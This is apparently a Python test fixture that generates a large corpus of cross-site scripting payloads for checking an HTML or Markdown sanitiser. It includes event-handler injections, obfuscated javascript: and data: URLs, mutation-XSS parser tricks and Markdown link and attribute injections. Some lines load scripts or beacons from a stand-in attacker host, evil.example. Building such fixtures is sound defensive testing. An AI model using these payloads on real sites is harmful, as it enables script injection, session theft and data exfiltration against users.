# ruff: noqa: E501
"""What people try in order to run a script in somebody else's page: payloads of the well-known kinds.

Written for this test by kind, not copied from a list.  The kinds are those of the OWASP "XSS Filter Evasion"
sheet, of PortSwigger's cross-site scripting cheat sheet (events, tags without interaction, old encodings),
of the HTML5 Security Cheatsheet, of mutation XSS as Heiderich et al. describe it ("mXSS attacks", CCS 2013),
and of what CommonMark renderers had to mend (links, autolinks, references, fences, ids).
"""

RUN = "alert(1)"

_EVENTS = (
    *(
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "onfocus",
        "onfocusin",
        "onblur",
        "ontoggle",
        "onpointerenter",
    ),
    *(
        "onanimationstart",
        "onanimationend",
        "ontransitionend",
        "onbeforetoggle",
        "onscroll",
        "onscrollend",
    ),
    *(
        "onwheel",
        "oncopy",
        "onpaste",
        "oninput",
        "onchange",
        "oninvalid",
        "onsubmit",
        "onreset",
        "onauxclick",
    ),
    *(
        "onmessage",
        "onhashchange",
        "onpopstate",
        "onpageshow",
        "onresize",
        "onbeforeprint",
        "ondrag",
        "onkeydown",
    ),
    *(
        "onloadstart",
        "onloadeddata",
        "oncanplay",
        "onplay",
        "oncontentvisibilityautostatechange",
        "onfinish",
        "onstart",
    ),
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x0A;script:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "\x01javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "javascript:/*--></title></style></textarea></script>*/alert(1)",
    "javascript://%0aalert(1)",
    "javascript:%61lert(1)",
    "javascript:void(alert(1))",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "blob:https://example.com/x",
    "filesystem:https://example.com/x",
    "view-source:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "feed:javascript:alert(1)",
    "x:javascript:alert(1)",
    "//evil.example/x.js",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
)

_PLAIN = (
    r"""
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script src=//evil.example/x.js></script>
<script/src="https://evil.example/x.js"></script>
<script	x>alert(1)</script	x>
<script x=">">alert(1)</script>
<script>alert(1)
<script >alert(1)</script >
<<script>alert(1);//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script type=module>import("https://evil.example/x.js")</script>
<script type="text/javascript">alert`1`</script>
<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<style>@import "https://evil.example/x.css";</style>
<style>body{background:url("javascript:alert(1)")}</style>
<style>*{animation:x}@keyframes x{}</style><b onanimationstart=alert(1)>x</b>
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=preload as=script href="https://evil.example/x.js">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=Set-Cookie content="a=b">
<base href="javascript:alert(1)//"><a href=#>x</a>
<base href="https://evil.example/">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>
<iframe src=https://evil.example/></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<applet code="x" archive="https://evil.example/x.jar"></applet>
<form action="javascript:alert(1)"><button>x</button></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>
<input type=image src=x formaction="javascript:alert(1)" onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<isindex type=image src=x onerror=alert(1)>
<isindex action="javascript:alert(1)" type=submit>
<details open ontoggle=alert(1)><summary>x</summary></details>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster="javascript:alert(1)"></video>
<audio src=x onerror=alert(1)></audio>
<img src=x onerror=alert(1)>
<img src=x:x onerror=alert(1)>
<img src="x" onerror="alert(1)" / >
<img/src=x/onerror=alert(1)>
<img src=x onerror=alert(1)//
<img """
    + '"""'
    + r"""><script>alert(1)</script>">
<img src='https://evil.example/p.png'>
<img srcset="https://evil.example/p.png 2x">
<img src=/x style="background:url(https://evil.example/p.png)">
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<img src="`javascript:alert(1)`">
<image src=x onerror=alert(1)>
<picture><source srcset=https://evil.example/p.png><img src=/x></picture>
<body onload=alert(1)>
<body background="https://evil.example/p.png">
<html onmouseover=alert(1)>
<table background="https://evil.example/p.png"><tr><td>x</table>
<td background="javascript:alert(1)">x
<marquee onstart=alert(1)>x</marquee>
<bgsound src="javascript:alert(1)">
<xss onpointerrawupdate=alert(1)>x</xss>
<custom-element autofocus tabindex=1 onfocus=alert(1)>x</custom-element>
<b tabindex=1 autofocus onfocus=alert(1) id=x>x</b>
<a href="#x" onclick=alert(1)>x</a>
<a href=javascript:alert(1)>x</a>
<a href="https://example.com" ping="https://evil.example/">x</a>
<a href="https://example.com" target=x onclick="alert(1)">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="javascript&colon;alert&lpar;1&rpar;">x</a>
<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m src=/x>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><script href="https://evil.example/x.js"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1) />
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x"/></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><title><script>alert(1)</script></title></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><mi><table><mglyph><style><math><img src=x onerror=alert(1)>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<p id="</title><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<textarea></textarea><img src=x onerror=alert(1)>
<title></title><img src=x onerror=alert(1)>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<![CDATA[><img src=x onerror=alert(1)>]]>
<!--><img src=x onerror=alert(1)>-->
<!--!><img src=x onerror=alert(1)>
<!-- --!><img src=x onerror=alert(1)>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<?xml version="1.0"?><script>alert(1)</script>
<?php echo '<script>alert(1)</script>' ?>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
</textarea></title></style></script><img src=x onerror=alert(1)>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" autofocus onfocus=alert(1) x="
&lt;script&gt;alert(1)&lt;/script&gt;
&lt;img src=x onerror=alert(1)&gt;
\u003cscript\u003ealert(1)\u003c/script\u003e
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
{{constructor.constructor('alert(1)')()}}
${alert(1)}
<div style="width:expression(alert(1))">x</div>
<div style="background:url(javascript:alert(1))">x</div>
<div style="position:fixed;inset:0">x</div>
<div data-behavior="copy" data-controller="x" hx-get="https://evil.example/" hx-trigger="load">x</div>
<div is="x-y" slot="z" part="p" contenteditable oninput=alert(1)>x</div>
<a id=alert name=alert href=#>x</a><form id=document name=cookie></form>
<img name=getElementById src=/x>
**bold <img src=x onerror=alert(1)>**
`code <img src=x onerror=alert(1)>` ` <img src=x onerror=alert(1)>
# Heading <img src=x onerror=alert(1)> {#"onclick=alert(1)}
## x {#x" onmouseover="alert(1)}
![x" onerror="alert(1)](/x.png)
![x](/x.png "t" onerror="alert(1)")
![x](x onerror=alert(1))
[x](/y "a" onclick="alert(1)")
[x](<javascript:alert(1)>)
[x](javascript:alert%281%29)
[x]( javascript:alert(1) )
[x](jav&#x09;ascript:alert(1))
[x][r]

[r]: javascript:alert(1)
[x][s]

[s]: <javascript:alert(1)> "t"
<javascript:alert(1)>
<data:text/html,<script>alert(1)</script>>
<https://example.com/"onmouseover="alert(1)>
https://example.com/"onmouseover="alert(1)
https://example.com/<img src=x onerror=alert(1)>
a@b.c"onmouseover="alert(1)
[a](mailto:x@y.z?body=<script>alert(1)</script>)
[![x](javascript:alert(1))](javascript:alert(1))
| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
|---|---|
| <script>alert(1)</script> | x |
> <img src=x onerror=alert(1)>
- [ ] <img src=x onerror=alert(1)>
x[^1]

[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))
*[HTML]: "><img src=x onerror=alert(1)>

HTML
/// note | <img src=x onerror=alert(1)>
<script>alert(1)</script>
///
/// details | "><script>alert(1)</script>
x
///
/// tab | <svg onload=alert(1)>
x
///
/// note
    attrs: {onclick: alert(1), style: "x"}

x
///
> [!NOTE] <img src=x onerror=alert(1)>
![v](https://www.youtube.com/watch?v="><img src=x onerror=alert(1)>)
![v](https://vimeo.com/1"onload="alert(1))
~~~html" onclick="alert(1)
<script>alert(1)</script>
~~~
"""
)

_FENCED = (
    '```js" onmouseover="alert(1)\nx\n```',
    '```html title="<img src=x onerror=alert(1)>"\n<script>alert(1)</script>\n```',
    "```{.x onclick=alert(1)}\nx\n```",
    "```</code></pre><img src=x onerror=alert(1)>\nx\n```",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "<p>\n```\n</p><script>alert(1)</script>\n```",
    "Term\n: <img src=x onerror=alert(1)>",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
    "\x02wzxhzdk:0\x03<img src=x onerror=alert(1)>",
    "\ufdd2script>alert(1)\ufdd2/script>",
    "\ufdd2img src=x onerror=alert(1)>",
    "<img src=x one\x00rror=alert(1)>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
)


def payloads() -> list[str]:
    """All of them, each a text that somebody may write."""
    events = [f"<img src=x {event}={RUN}><b {event}={RUN} tabindex=0>x</b>" for event in _EVENTS]
    links = [
        shape.format(address)
        for address in _ADDRESSES
        for shape in ('<a href="{}">x</a>', "[x]({})", "![x]({})", '<img src="{}">')
    ]
    blocks = [block for block in _PLAIN.strip().split("\n") if block.strip()]
    return [*blocks, _PLAIN, *events, *links, *_FENCED]
